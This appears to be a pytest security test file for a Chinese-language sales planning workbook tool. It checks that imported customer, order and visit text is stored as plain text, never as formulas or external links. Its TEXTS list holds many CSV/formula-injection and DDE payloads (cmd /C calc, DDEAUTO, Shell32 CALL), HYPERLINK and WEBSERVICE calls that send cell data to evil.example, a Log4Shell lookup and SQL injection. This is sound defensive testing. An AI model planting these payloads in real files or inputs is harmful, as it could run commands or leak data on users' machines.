"""Promise R3: text never becomes a command, whatever a list brings: import → run → saved book."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path

import openpyxl
import pytest

from salesplan_xl.book.file import FilePort
from salesplan_xl.book.plan_book.plan_book import PlanBook
from salesplan_xl.commands.books.import_data import stage_import
from salesplan_xl.commands.books.new import new_book
from salesplan_xl.commands.engine import runner
from salesplan_xl.schema.workbook import tables
from tests.fast import fast_only
from tests.recalc import charts, run_books

TEXTS = (
    "=1+1", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(A1:A9)", "@A1", "+A1", "-A1", "+",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")', '=HYPERLINK("file:///c:/windows/calc.exe","open")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")', "=INDIRECT(A1)",
    '=DDE("cmd";"/C calc";"x")', '=DDEAUTO("cmd","/C calc")', "DDE cmd /C calc", "=MSEXCEL|'\\..\\..\\cmd.exe'!A0",
    '=EXEC("calc")', '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")', "=REGISTER.ID(1)",
    "=A1:A9", "{=1+1}", "=SUM(tblCustomers[今年业绩（万元）])", "=[evil.xlsx]Sheet1!A1", "='http://evil.example/[x]S'!A1",
    "＝1+2", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', '"=1+1",2', ";=1+1", ",=1+1", "|=1+1",
    "=1+1\n=2+2", "a\t=1+1", "b\r\n=1+1", "%0A=1+1", "=1+1--", "=#REF!", "TRUE!", "1E5x",
    "<f>1+1</f>", "</t></si><f>1+1</f>", '" t="str"><f>1+1</f>', "]]><f>1+1</f>", "&lt;f&gt;", "&#61;1+1", "_x003D_1+1",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n", "'; DROP TABLE customers; --", "javascript:alert(1)", "公司=1+1", "=公司",
)  # fmt: skip
_FORMULA = re.compile(rb"<f[ >][^<]*</f>|<f>[^<]*</f>")


def import_rows() -> dict[str, list[list[object]]]:
    """Every text as a customer, a product, a need, a note, a person, a project and a visit's outcome."""
    customers: list[list[object]] = [
        ["客户名称", "今年业绩(万元)", "去年业绩(万元)", "区域/园区", "客户需求", "备注"]
    ]
    orders: list[list[object]] = [["日期", "订单号", "客户名称", "产品线", "金额(万元)"]]
    projects: list[list[object]] = [
        ["客户名称", "项目", "阶段", "预计金额(万元)", "预计签单", "下一步", "卡点"]
    ]
    people: list[list[object]] = [["客户名称", "姓名", "角色", "关注点"]]
    visits: list[list[object]] = [["日期", "客户名称", "目的", "结果"]]
    day = dt.date(2026, 3, 5).isoformat()
    for number, text in enumerate(TEXTS):
        customers.append([text, 100 + number, 90, text, text, text])
        orders.append([day, f"N{number}", text, text, 100 + number])
        projects.append([text, text, "报价", 20, dt.date(2027, 5, 1).isoformat(), text, text])
        people.append([text, text, "采购", text])
        visits.append([day, text, "销售", text])
    return {
        "customers": customers,
        "orders": orders,
        "opportunities": projects,
        "contacts": people,
        "visits": visits,
    }


def as_csv(path: Path, rows: list[list[object]]) -> Path:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows(rows)
    target = path.with_suffix(".csv")
    target.write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode("utf-8"))
    return target


def as_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for r, row in enumerate(rows, 1):
        for c, value in enumerate(row, 1):
            cell = sheet.cell(r, c)
            cell.value = value
            if isinstance(value, str):
                # What looks like the file format's own escape has to be escaped itself.
                cell.value = re.sub(r"_(?=x[0-9A-F]{4}_)", "_x005F_", value)
                cell.data_type = "s"
    book.save(path.with_suffix(".xlsx"))
    return path.with_suffix(".xlsx")


@pytest.fixture(scope="module", params=fast_only((as_csv, as_xlsx), as_csv), ids=["csv", "xlsx"])
def book(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A plan book into which the texts were imported, then the whole chain was run."""
    write: Callable[[Path, list[list[object]]], Path] = request.param
    folder = tmp_path_factory.mktemp("hostile")
    files = {key: write(folder / key, rows) for key, rows in import_rows().items()}
    port = FilePort.reopened(new_book("zh", year=2027))
    plan_book = PlanBook(port)
    findings = stage_import(plan_book, files)
    runner.finish("import", plan_book, findings, now=run_books.NOW, despite_errors=True)
    return run_books.run(run_books.run(FilePort.reopened(port))).to_bytes()


def formulas(data: bytes) -> set[bytes]:
    """All formula texts of all sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return {found for sheet in sheets for found in _FORMULA.findall(sheet)}


@lru_cache(maxsize=2)
def opened(data: bytes) -> openpyxl.Workbook:
    """The book as another program reads it; nobody writes into it."""
    return run_books.load(data)


def column(data: bytes, table: str, key: str) -> list[openpyxl.cell.Cell]:
    """The cells of a table column."""
    declared = tables()[table]
    for sheet in opened(data).worksheets:
        if declared.name in sheet.tables:
            (left, top), (_, bottom) = _corners(sheet.tables[declared.name].ref)
            at = left + declared.keys().index(key)
            return [sheet.cell(row, at) for row in range(top + 1, bottom + 1)]
    raise AssertionError(table)


def _corners(ref: str) -> tuple[tuple[int, int], tuple[int, int]]:
    left, top, right, bottom = openpyxl.utils.range_boundaries(ref)
    return (left, top), (right, bottom)


def cleaned(text: str) -> str:
    """Import takes spaces, tabs and line ends off the ends of a text, nothing else."""
    return text.replace("\r\n", "\n").strip()


def named(text: str) -> str:
    """A customer's name stands on one line: a line end or a tab within it is a space."""
    return " ".join(cleaned(text).split())


def read(value: object) -> str:
    """A cell's text; the file format spells some characters ``_x000D_``, which openpyxl shows as stored."""
    return cleaned(re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), str(value)))


@pytest.mark.slow
def test_no_formula_came_from_a_text(book: bytes) -> None:
    """The formulas of the book are those of a book with harmless names, not one more."""
    harmless = formulas(run_books.book("rep-zh"))
    assert formulas(book) <= harmless
    assert len(formulas(book)) > 50


@pytest.mark.slow
def test_nothing_leads_out_of_the_book(book: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        relations = [archive.read(name) for name in archive.namelist() if name.endswith(".rels")]
        parts = archive.namelist()
    assert not [text for text in relations if b'TargetMode="External"' in text]
    assert not [name for name in parts if re.search(r"externalLink|connections|ddeLink|vbaProject", name)]


@pytest.mark.parametrize(
    ("table", "key"),
    [
        ("customers", "name"), ("customers", "needs"), ("customers", "note"), ("orders", "customer"), ("orders", "line"),
        ("opportunities", "project"), ("opportunities", "next_step"), ("contacts", "name"), ("contacts", "cares"),
        ("visits", "outcome"),
    ],
)  # fmt: skip
def test_a_text_is_read_back_unchanged_and_as_text(book: bytes, table: str, key: str) -> None:
    cells = column(book, table, key)
    assert {cell.data_type for cell in cells} == {"s"}
    shown = named if (table, key) in {("customers", "name"), ("orders", "customer")} else cleaned
    assert [read(cell.value) for cell in cells] == [shown(text) for text in TEXTS]


@pytest.mark.parametrize(
    ("table", "key"), [("health", "customer"), ("targets", "customer"), ("map", "customer")]
)
def test_a_name_is_text_wherever_a_command_carries_it(book: bytes, table: str, key: str) -> None:
    cells = column(book, table, key)
    assert {cell.data_type for cell in cells if cell.value} == {"s"}
    assert {named(text) for text in TEXTS} <= {read(cell.value) for cell in cells}


def test_a_name_typed_into_again_stays_text(book: bytes) -> None:
    """The cells are formatted as text: F2 and Enter in Excel do not bring a formula to life."""
    assert {cell.number_format for cell in column(book, "customers", "name")} == {"@"}


def test_the_dashboard_and_its_charts_show_the_names_as_text(book: bytes) -> None:
    assert not charts.wrong_points(book)
    board = opened(book)["看板"]
    shown = [cell for row in board.iter_rows() for cell in row if read(cell.value) in map(named, TEXTS)]
    assert len(shown) >= 10
    assert {cell.data_type for cell in shown} == {"s"}
